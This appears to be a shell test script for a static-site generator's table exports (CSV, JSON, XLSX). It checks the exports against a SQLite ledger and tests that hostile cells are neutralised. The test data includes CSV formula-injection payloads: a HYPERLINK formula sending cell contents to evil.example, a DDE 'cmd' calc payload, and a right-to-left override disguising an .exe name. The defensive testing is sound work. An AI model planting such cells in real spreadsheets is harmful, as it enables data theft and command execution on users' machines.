# SPDX-License-Identifier: MIT
# Tables without templates: the downloads of the sample site, and cells that mean harm, read back by other programs.
set -u
tongbao=$(realpath "$1")
. tests/expect.sh
here=$PWD
mkdir "$work/site" && cd "$work/site" || exit 1
cp -r "$here/content" .
expect "it is built" 0 "$tongbao" --output one --templates "$here/templates" build --keep-going --without archive,search
data=one/current/data

cat >check-1.py <<'END'
import csv, json, sqlite3, sys
base, data = sqlite3.connect(sys.argv[1]), sys.argv[2] + "/"
def rows(name):
    bytes = open(data + name, "rb").read()
    assert bytes.startswith(b"\xef\xbb\xbf"), name
    text = bytes.decode("utf-8-sig")
    table = list(csv.reader(text.splitlines(keepends=True), strict=True))
    assert text.endswith("\r\n") and len({len(row) for row in table}) == 1, name
    return table
def unguarded(cell):
    return cell[1:] if cell[:1] == "'" and cell[1:2] in "=+-@\t\r" else cell
def plain(cell):
    return "" if cell is None else str(cell)
tables = {"items": "SELECT notice.slug, anchor FROM item JOIN notice ON notice.id = notice ORDER BY published, notice.slug, rank",
          "notices": "SELECT slug, sha256 FROM notice ORDER BY published, slug",
          "organisations": "SELECT slug, name FROM organisation ORDER BY slug",
          "windows": "SELECT slug, closes FROM window JOIN notice ON notice.id = notice ORDER BY published, slug",
          "history": "SELECT 0, turn FROM history JOIN matter ON matter.id = matter JOIN notice ON notice.id = matter.notice JOIN issue ON issue.id = matter.id WHERE statements > 1 ORDER BY notice.published, notice.slug, rank, turn",
          "figures": "SELECT notice.slug, words FROM figure JOIN issue ON issue.id = issue JOIN notice ON notice.id = notice ORDER BY published, notice.slug, rank, figure.position"}
keys = {"items": ("notice_id", "anchor"), "notices": ("id", "sha256"), "organisations": ("id", "name"),
        "windows": ("notice_id", "closes"), "history": (None, "turn"), "figures": ("notice_id", "words")}
for name, query in tables.items():
    people, programs = rows(name + ".csv"), rows(name + ".ascii.csv")
    records = json.load(open(data + name + ".json", encoding="utf-8"))
    assert all(column.isascii() for column in programs[0]), programs[0]
    assert all(column and not column.endswith((".link", ".mark")) for column in people[0]), people[0]
    assert len(people) == len(programs) == len(records) + 1 > 1, name
    assert list(records[0]) == programs[0], name
    for row, record in zip(programs[1:], records):
        assert [unguarded(cell) for cell in row] == [plain(record[column]) for column in programs[0]], (name, row)
    found = [tuple(record[key] if key else 0 for key in keys[name]) for record in records]
    assert found == base.execute(query).fetchall(), name
items = json.load(open(data + "items.json", encoding="utf-8"))
stood = dict(base.execute("SELECT status, count(*) FROM matter GROUP BY status").fetchall())
for status, count in stood.items():
    assert sum(item["status"] == status and item["counted"] for item in items) == count, status
END
expect "CSV, its twin and JSON say the same, and what the ledger says" 0 python3 check-1.py one/ledger.sqlite "$data"

python=python3
"$python" -c 'import jsonschema' 2>/dev/null || python=/usr/bin/python3
expect "so do the tables of lists, in four forms" 0 "$python" "$here/tests/site/lists.py" one/current one/ledger.sqlite
has "$out" " 5 of notices"
has "$out" " 5 of the dashboard, 10 lapses"
cat >several.py <<'END'
import glob, json, sys
rows = [row for path in glob.glob(sys.argv[1] + "/organisation/*.json") for row in json.load(open(path, encoding="utf-8"))]
assert sum("\n" in row["statements"] for row in rows) > 0
END
expect "and what each notice says of a matter" 0 python3 several.py one/current

cat >digests.py <<'END'
import glob, hashlib, os, re, sys
page = open(sys.argv[1] + "/index.html", encoding="utf-8").read()
told = dict(re.findall(r'<a href="([^"]+)">[^<]*</a></th><td class="hash">([0-9a-f]{64})<', page))
there = {os.path.basename(path): hashlib.sha256(open(path, "rb").read()).hexdigest() for path in glob.glob(sys.argv[1] + "/*")}
del there["index.html"]
assert told == there, set(told) ^ set(there)
END
expect "data/index.html has the SHA-256 of every file beside it" 0 python3 digests.py "$data"
before=$(sha256sum "$data/index.html")
expect "built again" 0 "$tongbao" --output one --templates "$here/templates" build --keep-going --without archive,search
[ "$(sha256sum "$data/index.html")" = "$before" ] || fail "with the same digests"

# Cells that mean harm, in every form: they come back as they went in, or are refused by name.
mkdir own
cat >own/evil.rows.sql <<'END'
-- pages: one path a form
SELECT 'evil.csv|evil.ascii.csv|evil.json|evil.xlsx' AS path;

-- cells: 格子
WITH cell(rank, words) AS (
  VALUES
    (1, '=1+1'), (2, '+86 755'), (3, '-2'), (4, '@SUM(A1)'), (5, char(9) || 'tab'), (6, char(13) || '=cr'),
    (7, '=HYPERLINK("http://evil.example/?"&A1,"x")'), (8, 'a "b" c'), (9, 'one' || char(10) || 'two, three'),
    (10, '😀🇨🇳'), (11, char(8238) || 'gpj.exe' || char(8236)), (12, replace(printf('%.*c', 32767, 'x'), 'x', '字')),
    (13, '00380'), (14, '1e5'), (15, '=cmd|'' /C calc''!A0'), (16, ' =1+1'), (17, ''''), (18, '2026-02-30')
)
SELECT rank AS "第几|rank", words AS "文字|words", '#' AS "文字.link", 'done' AS "|status" FROM cell ORDER BY rank;
END
sed -i '/AS "文字.link"/s/, .#. AS "文字.link"//' own/evil.rows.sql
cat >own/index.html.mustache <<'END'
<!DOCTYPE html><html lang="zh"><head><title>x</title></head><body></body></html>
END
expect "they are built" 0 "$tongbao" --lang en --output two --templates own build --keep-going --without archive,search
cat >check-2.py <<'END'
import csv, json, sys
sys.path.insert(0, sys.argv[2])
sys.argv, folder = sys.argv[:1], sys.argv[1] + "/"
from workbook import Book
cells = ["=1+1", "+86 755", "-2", "@SUM(A1)", "\ttab", "\r=cr", '=HYPERLINK("http://evil.example/?"&A1,"x")', 'a "b" c',
         "one\ntwo, three", "😀🇨🇳", "\u202egpj.exe\u202c", "字" * 32767, "00380", "1e5", "=cmd|' /C calc'!A0", " =1+1", "'", "2026-02-30"]
guarded = ["'" + cell if cell[0] in "=+-@\t\r" else cell for cell in cells]
for name, head in (("evil.csv", ["第几", "文字"]), ("evil.ascii.csv", ["rank", "words", "status"])):
    table = list(csv.reader(open(folder + name, encoding="utf-8-sig", newline=""), strict=True))
    assert table[0] == head, table[0]
    assert [row[1] for row in table[1:]] == guarded, name
    assert not any(cell[0] in "=+-@\t\r" for row in table for cell in row), name
records = json.load(open(folder + "evil.json", encoding="utf-8"))["cells"]
assert [record["words"] for record in records] == cells and records[0] == {"rank": 1, "words": "=1+1", "status": "done"}
book = Book(folder + "evil.xlsx")
assert [row["文字"] for row in book.rows("格子")] == [cell.replace("\r", "") for cell in cells]
assert b"<f>" not in book.read_bytes(book.sheets["格子"])
END
expect "and come back" 0 python3 check-2.py two/current "$here/tests/site"
sed -i "s/(1, '=1+1')/(1, 'a' || char(0) || 'b'), (0, replace(printf('%.*c', 32768, 'x'), 'x', '字'))/" own/evil.rows.sql
expect "what no cell of a workbook can hold" 0 "$tongbao" --lang en --output two --templates own build --keep-going --without archive,search
has "$err" "格子, 2, 文字"
has "$err" "格子, 3, 文字"
expect "is whole in JSON" 0 python3 -c 'import json, sys
records = json.load(open("two/current/evil.json", encoding="utf-8"))["cells"]
assert records[0]["words"] == "字" * 32768 and records[1]["words"] == "a\0b"'

expect "left out when told so" 0 "$tongbao" --output one --templates "$here/templates" build --keep-going --without archive,search,export
expect "no table is there" 1 sh -c 'find one/current -name "*.csv" -o -name "*.xlsx" -o -name "*.json" ! -path "*/notice/*" ! -name "*.schema.json" ! -name build.json | grep .'
expect "nothing leads to one" 0 "$tongbao" --output one verify --links
finish
